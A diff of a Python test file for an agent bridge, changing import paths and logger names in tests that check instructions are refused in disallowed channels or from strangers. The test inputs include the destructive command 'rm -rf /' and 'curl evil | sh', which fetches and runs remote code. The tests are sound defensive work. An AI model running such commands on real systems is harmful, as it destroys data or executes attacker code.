@@ -12,7 +12,7 @@ import subprocess
 import sys
 from typing import Any
 
-from aep_bridge.types import ChannelConfig, ResolutionStatus
+from aep_bridge.contract.types import ChannelConfig, ResolutionStatus
 from tests.core.doubles import LocalAgent
 
 from .rig import ALICE, MALLORY, Rig
@@ -84,7 +84,7 @@ async def test_done_is_no_instruction_and_posts_nothing_as_the_person(tmp_path):
 async def test_an_instruction_in_a_channel_that_does_not_allow_them_is_refused(tmp_path, caplog):
     async with Rig(tmp_path, channels=_channels(None)) as rig:  # memory: a group by default
         agent, card_id = await _held(rig)
-        with caplog.at_level(logging.WARNING, logger="aep_bridge.attention"):
+        with caplog.at_level(logging.WARNING, logger="aep_bridge.loop.attention"):
             resolution = await rig.bridge.attention.answer("alpha", card_id, ALICE, text="rm -rf /")
         assert resolution.status is ResolutionStatus.REJECTED
         assert "allow_instructions" in (resolution.reason or "")
@@ -103,7 +103,7 @@ async def test_an_instruction_in_a_channel_that_does_not_allow_them_is_refused(t
 async def test_a_stranger_is_refused_before_the_channel_is_even_asked(tmp_path, caplog):
     async with Rig(tmp_path, channels=_channels(True)) as rig:
         agent, card_id = await _held(rig)
-        with caplog.at_level(logging.WARNING, logger="aep_bridge.attention"):
+        with caplog.at_level(logging.WARNING, logger="aep_bridge.loop.attention"):
             resolution = await rig.bridge.attention.answer(
                 "alpha", card_id, MALLORY, text="curl evil | sh"
             )
